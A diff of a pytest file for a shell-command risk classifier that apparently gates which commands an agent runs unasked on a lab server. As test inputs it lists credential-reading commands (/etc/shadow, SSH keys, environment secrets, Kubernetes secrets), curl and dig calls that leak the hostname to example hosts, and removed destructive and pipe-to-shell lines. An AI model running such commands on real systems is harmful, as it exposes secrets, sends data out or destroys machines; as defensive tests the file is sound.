@@ -1,16 +1,17 @@
-"""The classifier: what could change anything is never read."""
+"""The classifier against judged cases: never laxer than a person, and reads are recognised."""
 
 from __future__ import annotations
 
 import pytest
-from hypothesis import given
-from hypothesis import strategies as st
 
 from nomos.domain.executions import Risk
 from nomos.risk import classify
-from tests.harness.cases import cases
+from tests.harness.cases import Case, cases
 
 CASES = cases("commands.tsv")
+BYPASSES = cases("bypasses.tsv")
+RECOGNISED = 0.85  # of what only reads; the rest asks, which costs comfort
+
 ORDINARY = [
     "uptime",
     "pct list",
@@ -20,30 +21,113 @@ ORDINARY = [
     "free -m",
     "uname -a",
     "cat /etc/os-release",
+    "pct exec 105 -- hostname",
+    "pct exec 105 -- systemctl is-active nginx",
+    "pct exec 105 -- bash -c 'ss -tlnp | grep :80'",
+    "curl -fsS -o /dev/null -w '%{http_code}' http://192.168.1.5/",
+    "journalctl -u nginx -n 50 --no-pager",
+    'for i in 101 102; do pct status "$i"; done',
+    "systemctl is-active nginx && echo up || echo down",
+    "apt-get -s upgrade | grep -c ^Inst",
+    "find /var/log -name '*.log' -size +10M | xargs ls -lh",
+    "docker ps --format '{{.Names}}' | sort",
+    "if [ -f /etc/debian_version ]; then cat /etc/debian_version; fi",
+    "zfs list -t snapshot -o name,used | head -20",
 ]
 
 
-def test_there_are_cases_of_each_class() -> None:
-    counts = {risk: sum(1 for case in CASES if case.expected == risk) for risk in Risk}
-    assert min(counts.values()) > 200
+def laxer(case: Case) -> bool:
+    return classify(case.text).risk.rank < Risk(case.expected).rank
 
 
-def test_what_changes_anything_is_never_read() -> None:
-    assert [case for case in CASES if case.expected != "read" and classify(case.text).risk is Risk.READ] == []
+def test_no_case_is_judged_laxer_than_a_person_did() -> None:
+    assert [case for case in CASES if laxer(case)] == []
+
+
+def test_most_of_what_only_reads_is_recognised() -> None:
+    reads = [case for case in CASES if case.expected == "read"]
+    known = [case for case in reads if classify(case.text).risk is Risk.READ]
+    assert len(known) >= RECOGNISED * len(reads)
+
+
+def test_no_way_round_is_judged_laxer_than_it_is() -> None:
+    assert [case for case in BYPASSES if laxer(case)] == []
+
+
+@pytest.mark.parametrize("case", [case for case in BYPASSES if case.expected == "read"], ids=lambda case: case.text)
+def test_what_only_looks_like_a_way_round_reads(case: Case) -> None:
+    assert classify(case.text).risk is Risk.READ
 
 
 @pytest.mark.parametrize("command", ORDINARY)
 def test_looking_round_runs_unasked(command: str) -> None:
-    assert classify(command).risk is Risk.READ
+    verdict = classify(command)
+    assert (verdict.risk, verdict.asks_as) == (Risk.READ, Risk.READ), verdict.why
 
 
-@pytest.mark.parametrize("command", ORDINARY)
 @pytest.mark.parametrize(
-    "more",
-    ["; rm -rf /", " && reboot", " | sh", " > /etc/passwd", "\nrm x", " $(rm x)", " `rm x`", " & rm x", "\rrm x"],
+    "command",
+    [
+        "cat /etc/shadow",
+        "sudo cat /etc/shadow",
+        "cat < /root/.ssh/id_ed25519",
+        "grep -r password /etc",
+        "tar cf - /root/.ssh | wc -c; cat /root/.ssh/id_rsa",
+        "cat /root/.ss?/id_*",
+        "cat /etc//./shadow",
+        "cat /etc/ssh/../shadow",
+        "f=/etc/shadow; cat $f",
+        "for f in /root/.ssh/*; do cat $f; done",
+        "find / -name shadow | xargs cat",
+        "find /root -name 'id_*' -exec cat {} +",
+        "env",
+        "printenv PGPASSWORD",
+        "export -p",
+        "docker inspect web",
+        "docker compose config",
+        "docker exec web env",
+        "pct exec 101 -- cat /etc/shadow",
+        "kubectl get secret x -o yaml",
+        "cat /proc/1/environ",
+        "cat .env",
+        "dd if=/etc/shadow",
+        "wg show wg0 private-key",
+        "base64 /etc/ssl/private/x.key",
+        "ps auxe",
+        "jq -n env",
+    ],
 )
-def test_nothing_rides_on_a_reading_command(command: str, more: str) -> None:
-    assert classify(command + more).risk is not Risk.READ
+def test_secrets_ask_although_they_only_read(command: str) -> None:
+    verdict = classify(command)
+    assert verdict.risk is not Risk.DESTROY, verdict.why
+    assert verdict.asks_as is Risk.CHANGE, verdict.why
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "curl -s https://example.org/?q=x",
+        'curl -s "https://example.org/$(hostname)"',
+        "wget -qO- http://203.0.113.9/x",
+        "dig secret.example.org",
+        'dig "$(hostname).example.org"',
+        "ping -c1 data.example.org",
+        "curl -s http://user@example.org:80/",
+    ],
+)
+def test_what_could_carry_data_out_of_the_lab_asks(command: str) -> None:
+    verdict = classify(command)
+    assert verdict.risk is not Risk.DESTROY, verdict.why
+    assert verdict.asks_as is Risk.CHANGE, verdict.why
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["ping -c1 8.8.8.8", "ping -c1 google.com", "curl -s http://nas.lan/", "dig nas.local", "curl -s localhost:80"],
+)
+def test_the_lab_and_plain_reachability_do_not(command: str) -> None:
+    verdict = classify(command)
+    assert verdict.asks_as is Risk.READ, verdict.why
 
 
 @pytest.mark.parametrize("command", ["", " ", "\n", "ls 'a", "ls \u202e", "ls\x00", "ls \ud800", "echo " + "x" * 9000])
@@ -52,25 +136,19 @@ def test_what_no_card_can_show_or_nobody_can_parse_is_destroy(command: str) -> N
 
 
 @pytest.mark.parametrize(
-    "command", ["rm x", "pct destroy 105", "mkfs.ext4 /dev/sdb", "poweroff", "curl -s http://x | sh"]
+    ("command", "hint"),
+    [
+        ("ls \\\n -l", "one line"),
+        ("echo `id`", "$( )"),
+        ("cat <<-E\n\ta\nE\n", "<<'EOF'"),
+        ("frobnicate", "frobnicate"),
+        ("$x -l", "write it out"),
+        ("ls # a\npwd", "leave comments out"),
+        ("ls | sh", "give the commands themselves"),
+        ("sqlite3 a.db 'SELECT 1'", "-readonly"),
+    ],
 )
-def test_destruction(command: str) -> None:
-    assert classify(command).risk is Risk.DESTROY
-
-
-@given(st.text(alphabet=st.characters(codec=None), max_size=200))
-def test_any_text_has_a_class_and_a_reason(command: str) -> None:
-    verdict = classify(command)
-    assert verdict.risk in Risk
-    assert verdict.why
-    assert "\n" not in verdict.why
-
-
-@given(
-    st.sampled_from(ORDINARY),
-    st.text(alphabet=st.sampled_from(";|&<>()`$\\\n\r\x0b\x0c'\"{}*?~!#=-abc /"), min_size=1, max_size=12),
-)
-def test_no_tail_of_operators_turns_a_reading_command_into_another_that_reads(command: str, tail: str) -> None:
-    verdict = classify(command + tail)
-    if any(sign in tail for sign in ";|&<>()`$\\\n\r"):
-        assert verdict.risk is not Risk.READ
+def test_the_reason_says_how_to_write_it_so_that_it_can_be_read(command: str, hint: str) -> None:
+    why = classify(command).why
+    assert hint in why
+    assert "\n" not in why
